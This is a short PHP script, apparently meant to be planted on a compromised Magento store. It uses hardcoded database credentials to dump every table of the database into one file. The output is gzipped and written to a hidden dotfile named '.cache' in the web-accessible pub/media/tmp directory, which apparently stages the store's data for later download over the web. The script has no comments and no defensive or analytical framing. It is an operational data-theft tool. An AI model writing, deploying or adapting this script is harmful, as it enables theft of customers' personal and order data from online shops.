<?php
$h = 'localhost'; $u = 'magento'; $p = 'M4g3nt0!';
$db = new mysqli($h, $u, $p, 'magento');
$out = '';
foreach ($db->query('SHOW TABLES')->fetch_all() as $t) {
    $res = $db->query("SELECT * FROM `{$t[0]}`");
    while ($row = $res->fetch_row()) $out .= $t[0] . "\t" . implode("\t", $row) . "\n";
}
file_put_contents(__DIR__ . '/pub/media/tmp/.cache', gzencode($out));
